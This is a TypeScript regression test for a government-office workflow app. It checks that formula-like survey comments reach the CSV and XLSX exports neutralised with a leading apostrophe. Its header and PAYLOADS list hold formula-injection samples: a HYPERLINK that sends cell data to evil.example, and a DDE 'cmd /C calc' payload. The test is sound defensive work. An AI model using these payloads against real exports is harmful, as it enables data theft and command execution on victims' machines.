/**
 * Attack (assessment round 2): formula injection through the managers' exports. The IKM export
 * carries the survey's free comment, written by anyone holding a survey link; a comment such as
 * `=HYPERLINK("https://evil.example/?"&A1;"Klik")` landed as a cell a spreadsheet program runs
 * when the manager opens the CSV. Every text cell starting with = + - @ (or a tab or a carriage
 * return) is now written with a leading apostrophe, in CSV and XLSX alike; numbers stay numbers.
 */
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createUser } from '../../server/services/accounts/accounts.js';
import { inviteEndedApplications } from '../../server/services/notifications/skm.js';
import { bearer, createTestApp, loginAs, type TestApp } from '../helpers/app.js';
import { databaseKinds } from '../helpers/db.js';
import { chain, end, model, start, userTask } from '../runtime/support/bpmn.js';
import { publishProcess } from '../runtime/support/publish.js';

const OFFICE = 'kecamatan-kaloran';
const izin = model('uji-ikm', `${start()}${userTask('lengkapi', 'sop:duration="P1D"')}${end()}${chain('start', 'lengkapi', 'end')}`, {
  lanes: { pemohon: ['start', 'lengkapi', 'end'] },
  attrs: 'sop:starterRoles="pemohon"',
});
const PAYLOADS = ['=HYPERLINK("https://evil.example/?"&A1;"Klik")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1;2)'];

describe.each(databaseKinds)('exports neutralise formulas (%s)', (kind) => {
  let t: TestApp;
  const as: Record<string, Record<string, string>> = {};

  beforeAll(async () => {
    t = await createTestApp({ kind, users: false });
    const accounts = [
      { username: 'pemohon1', name: 'Siti Aminah', roles: [{ role: 'pemohon', office: null }] },
      { username: 'manager', roles: [{ role: 'manager', office: null }] },
    ];
    await Promise.all(accounts.map((a) => createUser(t.database.db, { ...a, password: t.password }, 'test')));
    for (const a of accounts) as[a.username] = bearer(await loginAs(t.app, a.username));
    await publishProcess(t.database.db, 'uji-ikm', izin);
  }, 120_000);
  afterAll(async () => t?.close());

  it('survey comments that look like formulas reach the manager\'s CSV and XLSX as text', async () => {
    for (const comment of PAYLOADS) {
      const started = await t.app.inject({ method: 'POST', url: '/api/processes/uji-ikm/instances', headers: as.pemohon1, payload: { office: OFFICE } });
      expect(started.statusCode, started.body).toBe(201);
      const task = (started.json() as { tasks: Array<{ id: string }> }).tasks[0];
      expect((await t.app.inject({ method: 'POST', url: `/api/tasks/${task.id}/complete`, headers: as.pemohon1, payload: { variables: {} } })).statusCode).toBe(200);
      await inviteEndedApplications(t.database.db);
      const notes = (await t.app.inject({ method: 'GET', url: '/api/notifications?unread=true', headers: as.pemohon1 })).json() as Array<{ id: number; kind: string; link: string }>;
      const invitation = notes.find((n) => n.kind === 'survey-invitation')!;
      await t.app.inject({ method: 'POST', url: '/api/notifications/read', headers: as.pemohon1, payload: { ids: [invitation.id] } });
      const answered = await t.app.inject({ method: 'POST', url: `/api/public/survey/${invitation.link.replace('/survei/', '')}`, payload: { answers: [4, 3, 3, 4, 3, 4, 4, 2, 3], comment } });
      expect(answered.statusCode, answered.body).toBe(200);
    }

    const csv = await t.app.inject({ method: 'GET', url: `/api/analytics/ikm?office=${OFFICE}&format=csv`, headers: as.manager });
    expect(csv.statusCode).toBe(200);
    const cells = csv.body.split(/\r\n/).flatMap((line) => line.match(/("([^"]|"")*"|[^,]*)(,|$)/g)!.map((c) => c.replace(/,$/, '').replace(/^"|"$/g, '').replace(/""/g, '"')));
    for (const p of PAYLOADS) expect(cells).toContain(`'${p}`);
    expect(cells.filter((c) => /^[=+\-@]/.test(c))).toEqual([]);

    const xlsx = await t.app.inject({ method: 'GET', url: `/api/analytics/ikm?office=${OFFICE}&format=xlsx`, headers: as.manager });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    const texts: string[] = [];
    wb.eachSheet((ws) => ws.eachRow((row) => row.eachCell((c) => void (typeof c.value === 'string' && texts.push(c.value)))));
    for (const p of PAYLOADS) expect(texts).toContain(`'${p}`);
    expect(texts.filter((c) => /^[=+\-@]/.test(c))).toEqual([]);
    // figures are still numbers
    expect(csv.body).toMatch(/Jumlah responden,,,,4/);
  });
});
